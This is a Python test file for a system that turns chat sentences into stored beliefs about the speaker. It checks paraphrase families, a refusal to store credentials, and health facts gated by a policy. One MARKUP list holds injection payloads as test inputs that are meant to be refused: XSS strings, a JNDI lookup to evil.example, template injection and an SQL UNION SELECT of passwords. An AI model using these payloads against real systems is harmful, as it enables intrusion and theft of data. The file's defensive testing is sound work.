"""Families of sentences, not single sentences: each pattern of real talk that formation got
wrong or missed, told many ways (tense, negation, a hedge, a name or a pronoun, the other
speaker saying it), with one rule, metamorphic: the same belief wherever the meaning is the
same, and nothing of the family's kind wherever it is not.

Every sentence is written for this file (none comes from the evaluation conversations). A
"same" row names the statement that must form and must be the only one of the family's
relations; a "nothing" row must form none of them (an ``A:`` prefix: the other speaker says it,
which forms nothing of the principal's whatever the words).
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import UTC, datetime

import pytest

from engram.formation.deterministic import propose
from engram.formation.policy import RELATION_NAMES, FormationPolicy
from engram.schemas.claims import ClaimsBatchFormed, Tense
from engram.schemas.common import Role
from tests.support.forming import episode, form, message
from tests.unit.formation.formed import EPISODE_DAY, batch

_AT = datetime(2024, 5, 8, 12, 0, tzinfo=UTC)


@dataclass(frozen=True)
class Family:
    relations: frozenset[str]
    same: tuple[tuple[str, str], ...]
    nothing: tuple[str, ...]


def _batch(sentence: str) -> ClaimsBatchFormed:
    if sentence.startswith("A:"):
        return batch(sentence[2:], Role.ASSISTANT)
    return batch(sentence)


def _of_family(sentence: str, family: Family) -> list[str]:
    """What forms of the family and holds now (a state kept as history, "used to", does not)."""
    return [
        c.statement
        for c in _batch(sentence).candidates
        if c.relation in family.relations and (c.tense is Tense.PRESENT or c.is_event)
    ]


FAMILIES: dict[str, Family] = {
    # 1. A reason or a passion told about an activity is a lasting taste, not a reminder.
    "reason_for_a_passion": Family(
        frozenset({"prefers", "interested_in", "dislikes"}),
        same=(
            ("Moments like that remind me why I love climbing.", "speaker prefers climbing (topic:climbing)"),
            ("Days like this remind me why I love sailing so much.", "speaker prefers sailing (topic:sailing)"),
            ("That trip reminded me why I love hiking.", "speaker prefers hiking (topic:hiking)"),
            ("It always reminds me how much I love painting!", "speaker prefers painting (topic:painting)"),
            ("Honestly, that's why I love gardening.", "speaker prefers gardening (topic:gardening)"),
            ("This is why I'm so passionate about pottery.", "speaker interested in pottery"),
            ("Evenings like these remind me that I really enjoy cooking.", "speaker prefers cooking (topic:cooking)"),
            ("Reminds me why I love baking.", "speaker prefers baking (topic:baking)"),
            ("Nights like this remind me how much I hate crowds.", "speaker dislikes crowds (topic:crowds)"),
        ),
        nothing=(
            "Remind me to book the climbing gym tomorrow.",
            "Can you remind me why I signed up for climbing?",
            "Moments like that remind me why I used to love climbing.",
            "Moments like that make me wonder why I ever loved climbing.",
            "Maybe that's why I love climbing.",
            "She told me that's why she loves climbing.",
            "It reminds me why you love climbing so much.",
            "A:Moments like that remind me why I love climbing.",
        ),
    ),
    # 2. A decision taken with someone named is the speaker's decision, with that person.
    "decision_with_someone": Family(
        frozenset({"committed_to", "intends_to"}),
        same=(
            ("Ana and I have decided to move in together!", "speaker committed to move in with Ana"),
            ("Ana and I decided to move in together.", "speaker committed to move in with Ana"),
            ("Me and Ana have decided to move in together.", "speaker committed to move in with Ana"),
            ("Ana and I just decided to move in together", "speaker committed to move in with Ana"),
            ("Ana and I finally decided to move in together last week.", "speaker committed to move in with Ana"),
            ("My girlfriend Ana and I have decided to move in together.", "speaker committed to move in with Ana"),
            ("Tom and I have decided to adopt a cat.", "speaker committed to adopt a cat with Tom"),
            ("Tom and I decided to start a podcast together", "speaker committed to start a podcast with Tom"),
        ),
        nothing=(
            "Ana and I haven't decided to move in together yet.",
            "Ana and I might move in together.",
            "Ana and I are thinking about moving in together.",
            "Have Ana and I decided to move in together?",
            "Ana and Tom have decided to move in together.",
            "Ana decided to move in with her sister.",
            "Ana and I decided against moving in together.",
            "A:Ana and I have decided to move in together!",
        ),
    ),
    # 3. Getting married forms the spouse however the event is worded.
    "married": Family(
        frozenset({"related_to"}),
        same=(
            ("I got married last week!", "speaker related to spouse (spouse)"),
            ("Got married last week!", "speaker related to spouse (spouse)"),
            ("Just got married!", "speaker related to spouse (spouse)"),
            ("We got married last weekend.", "speaker related to spouse (spouse)"),
            ("I'm married.", "speaker related to spouse (spouse)"),
            ("I've been married for ten years.", "speaker related to spouse (spouse)"),
            ("The place where I got married is lovely.", "speaker related to spouse (spouse)"),
            ("We tied the knot last week.", "speaker related to spouse (spouse)"),
            ("We had our wedding last summer.", "speaker related to spouse (spouse)"),
            ("I'm getting married next month.", "speaker related to fiancé (fiancé)"),
            ("We're getting married in June!", "speaker related to fiancé (fiancé)"),
        ),
        nothing=(
            "My sister got married last week.",
            "I'm not married.",
            "I never got married.",
            "If I got married I would move.",
            "Tom got married in May.",
            "I'd love to get married someday.",
            "Are you married?",
            "A:I got married last week!",
        ),
    ),
    # 4. A pronoun or a bare verb is no object of a taste.
    "pronoun_or_bare_verb": Family(
        frozenset({"prefers", "interested_in", "dislikes", "learning"}),
        same=(
            ("I love making pottery.", "speaker prefers making pottery (topic:making pottery)"),
            ("I'm passionate about sharing recipes.", "speaker interested in sharing recipes"),
            ("I really enjoy baking bread.", "speaker prefers baking bread (topic:baking bread)"),
        ),
        nothing=(
            "I love making him happy.",
            "I love making her laugh.",
            "I'm passionate about sharing that.",
            "I really enjoy helping them.",
            "I love seeing it grow.",
            "I'm passionate about doing this.",
            "I love spending time with you.",
            "I love doing that for her.",
            "I'm really into supporting them.",
            "A:I love making him happy.",
        ),
    ),
    # 5. A wish for the other speaker is theirs, not the principal's.
    "wish_for_the_other": Family(
        frozenset({"learning", "prefers", "interested_in", "participated_in", "intends_to", "member_of"}),
        same=(("I'm learning pottery techniques.", "speaker learning pottery techniques"),),
        nothing=(
            "I hope you learn some new techniques.",
            "Hope you learn some new techniques!",
            "I hope you get to travel more.",
            "I really hope you enjoy the concert.",
            "I hope you start painting again.",
            "Hope you find a good pottery class.",
            "I hope that you join the choir.",
            "I'm sure you'll learn some new techniques.",
            "Hope you're learning a lot about painting.",
            "A:I hope you learn some new techniques.",
        ),
    ),
    # 6. "Managed to" says what was done, never whom the speaker manages.
    "managed_to": Family(
        frozenset({"manages"}),
        same=(
            ("I manage the data team.", "speaker manages data team"),
            ("I manage a team of nurses.", "speaker manages team of nurses"),
        ),
        nothing=(
            "I managed to ride my bike to work.",
            "I manage to ride my bike to work every day.",
            "I've managed to save some money.",
            "I somehow managed to finish the race.",
            "I finally managed to fix the sink.",
            "I manage to run five miles most days.",
            "I'll manage to make it work.",
            "I can't manage to sleep lately.",
            "A:I managed to ride my bike to work.",
        ),
    ),
    # 10. A sentence that states a credential forms nothing at all.
    "credential_told": Family(
        frozenset(
            {"prefers", "uses", "owns", "has_contact", "has_name", "requires", "committed_to"}
        ),
        same=(("I use a password manager.", "speaker uses password manager"),),
        nothing=(
            "I want my router password to be hunter2, remember it.",
            "Remember that my wifi password is sunflower99.",
            "My bank PIN is 4821, please remember it.",
            "I'd like my backup passphrase to be correct horse battery staple.",
            "Please remember my API key is sk-abc123def456ghi789jkl.",
            "Remember my locker code: 5512.",
            "My password for the gym app should be Tiger!2024.",
            "I prefer my router password to be hunter2.",
            "I use hunter2 as my password everywhere.",
        ),
    ),
    # 7. A relative is one belief, named when a name is told, however the name is told.
    "relative_named": Family(
        frozenset({"related_to"}),
        same=(
            ("My sister Marta is visiting next week.", "speaker related to Marta (sister)"),
            ("My older sister Marta lives in Lyon.", "speaker related to Marta (sister)"),
            ("Marta, my sister, is a nurse.", "speaker related to Marta (sister)"),
            ("My sister's name is Marta.", "speaker related to Marta (sister)"),
            ("I have a sister named Marta.", "speaker related to Marta (sister)"),
            ("My little sister, Marta, just turned ten.", "speaker related to Marta (sister)"),
            ("Me and my sister Marta went skiing.", "speaker related to Marta (sister)"),
            ("My partner Sam cooked dinner.", "speaker related to Sam (partner)"),
            ("My son just turned one. His name is Kyle.", "speaker related to Kyle (son)"),
            ("Our one-year-old is so cute, his name is Kyle!", "speaker related to Kyle (child)"),
            ("My 10-year-old daughter Mia loves chess.", "speaker related to Mia (daughter)"),
            ("My husband has a new colleague, his name is Kyle.", "speaker related to husband (husband)"),
        ),
        nothing=(
            "Marta's sister is visiting.",
            "My friend's sister Marta is visiting.",
            "Is your sister Marta coming?",
            "My late sister Marta loved roses.",
            "My ex-wife Marta called.",
            "A:My sister Marta is visiting next week.",
            "A:My son just turned one. His name is Kyle.",
        ),
    ),
    # 7. Pets named in a list are each named.
    "pets_named": Family(
        frozenset({"owns"}),
        same=(
            ("My dog Rex sleeps all day.", "speaker owns dog (name:rex)"),
            ("Rex is my dog.", "speaker owns dog (name:rex)"),
        ),
        nothing=(
            "My neighbour's dogs Pepper and Pixie bark all night.",
            "Our dogs Pepper and Pixie passed away last year.",
            "Do your dogs Pepper and Pixie like the beach?",
            "I'd love dogs named Pepper and Pixie someday.",
            "A:Our dogs Pepper and Pixie love the beach.",
            "My aunt's parrot Pip talks a lot.",
        ),
    ),
    # 8. Vocations and recurring activities, as roles and routines.
    "vocation_or_routine": Family(
        frozenset({"has_role", "participated_in", "interested_in", "member_of"}),
        same=(
            ("I teach yoga on weekends.", "speaker has role yoga teacher"),
            ("I've been teaching piano for ten years.", "speaker has role piano teacher"),
            ("I coach a junior football team.", "speaker has role coach"),
            ("I'm a musician.", "speaker has role musician"),
            ("I go kayaking every summer.", "speaker participated in kayaking (every summer)"),
            ("I just started going to boot camps with my family.", "speaker participated in boot camps"),
            ("I started a weekend yoga class with a colleague.", "speaker participated in weekend yoga class"),
            ("Dancing makes me so happy.", "speaker interested in dancing"),
            ("Hiking has opened up a whole new world for me.", "speaker interested in hiking"),
            ("Painting is where I feel most alive.", "speaker interested in painting"),
            ("I sing in a choir.", "speaker member of choir"),
        ),
        nothing=(
            "I used to teach yoga.",
            "I'd love to teach piano someday.",
            "Do you coach a football team?",
            "Running makes me nervous.",
            "My sister teaches yoga on weekends.",
            "I started a fight with my brother.",
            "I started going out more.",
            "A:I teach yoga on weekends.",
            "A:Dancing makes me so happy.",
        ),
    ),
    # 8. Plans with a named time.
    "plan_with_a_time": Family(
        frozenset({"intends_to"}),
        same=(
            ("I can't wait for our hike next month.", "speaker intends to hike (2024-06)"),
            ("Our camping trip next weekend is all booked!", "speaker intends to camping trip (2024-W20)"),
            ("My recital next Friday has me nervous.", "speaker intends to recital (2024-05-10)"),
            ("I'm off to Ireland next month!", "speaker intends to trip to Ireland (2024-06)"),
            ("I'm moving to Oslo next year.", "speaker intends to move to Oslo (2025)"),
            ("I'm hiking with friends this weekend.", "speaker intends to hiking"),
        ),
        nothing=(
            "Are you coming to our hike next month?",
            "Their hike next month sounds fun.",
            "Our hike last month was lovely.",
            "I'd love to go to Ireland next month.",
            "I might move to Oslo next year.",
            "A:I can't wait for our hike next month.",
        ),
    ),
    # 9. A list of owned things: the main thing, not what came with it.
    "owned_list": Family(
        frozenset({"owns"}),
        same=(
            ("I bought a new gaming PC with a mouse and a keyboard.", "speaker owns gaming PC"),
            ("I got a new laptop, a mouse and a keyboard for my office.", "speaker owns laptop"),
            ("I just got a new desk setup with a monitor and a mouse.", "speaker owns desk setup"),
            ("My new camera came with a strap and a bag.", "speaker owns camera"),
            ("I bought a new mouse.", "speaker owns mouse"),
        ),
        nothing=(
            "I'd love a gaming PC with a mouse and a keyboard.",
            "Did you buy a laptop with a mouse?",
            "My brother bought a gaming PC with a mouse.",
            "A:I bought a new gaming PC with a mouse and a keyboard.",
        ),
    ),
    # 9. A plan of "we" that is no project work is the speaker's, never the project's.
    "household_plan": Family(
        frozenset({"intends_to", "committed_to"}),
        same=(
            ("We're planning a trip to Japan next month.", "speaker intends to take a trip to Japan (2024-06)"),
            ("We plan to visit Rome next month.", "speaker intends to visit Rome (2024-06)"),
            ("We are planning to renovate the kitchen.", "speaker intends to renovate the kitchen"),
            ("We decided to repaint the house.", "speaker committed to repaint the house"),
            ("We plan to migrate to Kubernetes next quarter.", "proj intends to migrate to Kubernetes next quarter"),
        ),
        nothing=(
            "We might repaint the house.",
            "Should we visit Rome next month?",
            "They plan to visit Rome next month.",
            "A:We plan to visit Rome next month.",
        ),
    ),
    # 8. An interest told as what it is to the speaker, a noun or a pastime.
    "interest_told_otherwise": Family(
        frozenset({"interested_in", "prefers"}),
        same=(
            ("Nature's always been my haven.", "speaker interested in nature"),
            ("Music is my life.", "speaker interested in music"),
            ("Art's allowed me to say what words can't.", "speaker interested in art"),
            ("Sketching for me is a way to unwind.", "speaker interested in sketching"),
            ("Gardening has helped me slow down.", "speaker interested in gardening"),
            ("I've always had a love for horses!", "speaker interested in horses"),
            ("I'm turning my baking passion into a business.", "speaker interested in baking"),
        ),
        nothing=(
            "Traffic is my nightmare.",
            "Ana is my world.",
            "Running makes me so tired.",
            "My sister has always had a love for horses.",
            "Does music help you relax?",
            "A:Nature's always been my haven.",
        ),
    ),
    # 8. Events and works told inside a longer sentence.
    "told_in_passing": Family(
        frozenset({"participated_in", "contributed_to", "responsible_for", "committed_to"}),
        same=(
            ("It reminds me of a road trip we took last year.", "speaker participated in road trip (2023)"),
            ("Here are my cousins when we went on a camping trip.", "speaker participated in camping trip"),
            ("Another short film that I contributed to won a prize!", "speaker contributed to short film"),
            ("I wrote a few scenes for a play that opens Friday.", "speaker contributed to play"),
            ("I'm finally in the study abroad program I applied for!", "speaker participated in study abroad program"),
            ("I'm in the middle of a mystery novel.", "speaker responsible for mystery novel"),
            ("Especially after I failed the driving test, I've been anxious.", "speaker participated in driving test"),
            ("We even had a picnic by the river last week!", "speaker participated in picnic"),
        ),
        nothing=(
            "It reminds me of a road trip we're planning.",
            "My brother wrote a few scenes for a play.",
            "Are you in the study abroad program?",
            "Another short film that she contributed to won a prize.",
            "A:It reminds me of a road trip we took last year.",
        ),
    ),
}  # fmt: skip

SAME = [(name, s, b) for name, f in FAMILIES.items() for s, b in f.same]
NOTHING = [(name, s) for name, f in FAMILIES.items() for s in f.nothing]


def test_every_family_has_eight_sentences_or_more() -> None:
    for name, family in FAMILIES.items():
        assert len(family.same) + len(family.nothing) >= 8, name


@pytest.mark.parametrize(("name", "sentence", "belief"), SAME, ids=[f"{n}:{s}" for n, s, _ in SAME])
def test_a_sentence_that_means_the_belief_forms_it_and_nothing_else_of_its_kind(
    name: str, sentence: str, belief: str
) -> None:
    assert _of_family(sentence, FAMILIES[name]) == [belief]


@pytest.mark.parametrize(("name", "sentence"), NOTHING, ids=[f"{n}:{s}" for n, s in NOTHING])
def test_a_sentence_that_does_not_mean_it_forms_nothing_of_its_kind(
    name: str, sentence: str
) -> None:
    assert _of_family(sentence, FAMILIES[name]) == []


MARKUP = (
    "I use <script>alert(1)</script> every day.",
    "I use <iframe src=x> daily.",
    "I really love <img src=x onerror=alert(1)>.",
    "I work at <b onclick=steal()>Acme</b>.",
    "I use javascript:alert(document.cookie) for everything.",
    "I prefer ${jndi:ldap://evil.example/a} as my logger.",
    "I use {{constructor.constructor('alert(1)')()}} at work.",
    "I work at Acme UNION SELECT password FROM users.",
    "I love <svg onload=alert(1)> icons.",
)
"""Markup or code where a thing should be named (issue 35): refused, with the reason's detail
saying so, and nothing formed."""


@pytest.mark.parametrize("sentence", MARKUP)
def test_markup_or_code_as_an_end_is_refused_with_its_reason(sentence: str) -> None:
    formed = _batch(sentence)
    assert formed.candidates == []
    assert any(
        r.reason == "instruction_shaped" and r.detail.startswith("markup or code")
        for r in formed.refusals
    ), [(r.statement, r.reason, r.detail) for r in formed.refusals]


@pytest.mark.parametrize(
    ("sentence", "belief"),
    [
        ("I use VS Code at work.", "speaker uses VS Code"),
        ("I love C++.", "speaker prefers C++ (programming language)"),
        ("I live in Porto and I'm debugging <div> layouts all week.", "speaker lives in Porto"),
    ],
)
def test_a_thing_beside_markup_still_forms(sentence: str, belief: str) -> None:
    assert belief in [c.statement for c in _batch(sentence).candidates]


@pytest.mark.parametrize(
    ("sentence", "beliefs"),
    [
        ("Our dogs Pepper and Pixie love the beach.", {"speaker owns dog (name:pepper)", "speaker owns dog (name:pixie)"}),
        ("We have two cats, Miso and Tofu.", {"speaker owns cat (name:miso)", "speaker owns cat (name:tofu)"}),
        ("My cats Luna, Milo and Pip are asleep.", {"speaker owns cat (name:luna)", "speaker owns cat (name:milo)", "speaker owns cat (name:pip)"}),
        ("I adopted two kittens named Salt and Pepper.", {"speaker owns kitten (name:salt)", "speaker owns kitten (name:pepper)"}),
        ("My dog Rex and Ana went out.", {"speaker owns dog (name:rex)"}),
        ("My two sisters, Marta and Lena, are twins.", {"speaker related to Marta (sister)", "speaker related to Lena (sister)"}),
        ("My wife and kids are my world.", {"speaker related to wife (wife)", "speaker related to child (child)"}),
    ],
)  # fmt: skip
def test_every_one_of_a_list_of_named_ones_is_one_belief(sentence: str, beliefs: set[str]) -> None:
    assert {c.statement for c in _batch(sentence).candidates} == beliefs


HEALTH_ON = FormationPolicy(enabled_relations=RELATION_NAMES)
HEALTH_SAME = (
    ("I'm doing physio for my knee.", "speaker has condition knee injury"),
    ("I'm recovering from shoulder surgery, so no climbing.", "speaker has condition shoulder injury"),
    ("My ankle injury is acting up again.", "speaker has condition ankle injury"),
    ("I twisted my ankle on the trail.", "speaker has condition twisted ankle"),
    ("I can't have dairy, sadly.", "speaker has condition dairy-free diet"),
    ("I'm lactose intolerant.", "speaker has condition lactose intolerance"),
)  # fmt: skip
HEALTH_NOTHING = (
    "My mum is recovering from hip surgery.",
    "Hope your knee injury heals soon!",
    "My knee injury is healed now.",
    "Did you twist your ankle?",
    "A:I'm doing physio for my knee.",
)


def _health(sentence: str, policy: FormationPolicy) -> ClaimsBatchFormed:
    role = Role.ASSISTANT if sentence.startswith("A:") else Role.USER
    content = sentence.removeprefix("A:")
    made = episode(message(content, role), principal="p", project="proj", occurred_at=_AT)
    return form(made, by_message={0: propose(content, occurred_on=EPISODE_DAY)}, policy=policy)


@pytest.mark.parametrize(("sentence", "belief"), HEALTH_SAME)
def test_health_told_in_passing_forms_under_a_policy_that_enables_it(
    sentence: str, belief: str
) -> None:
    formed = _health(sentence, HEALTH_ON)
    assert [c.statement for c in formed.candidates if c.relation == "has_condition"] == [belief]
    assert all(
        "health" in c.sensitivity for c in formed.candidates if c.relation == "has_condition"
    )


@pytest.mark.parametrize(("sentence", "belief"), HEALTH_SAME)
def test_health_told_in_passing_forms_nothing_under_the_default_policy(
    sentence: str, belief: str
) -> None:
    formed = _health(sentence, FormationPolicy())
    assert not [c for c in formed.candidates if c.relation == "has_condition"]


@pytest.mark.parametrize("sentence", HEALTH_NOTHING)
def test_health_of_someone_else_or_gone_forms_nothing(sentence: str) -> None:
    formed = _health(sentence, HEALTH_ON)
    assert not [c for c in formed.candidates if c.relation == "has_condition"]
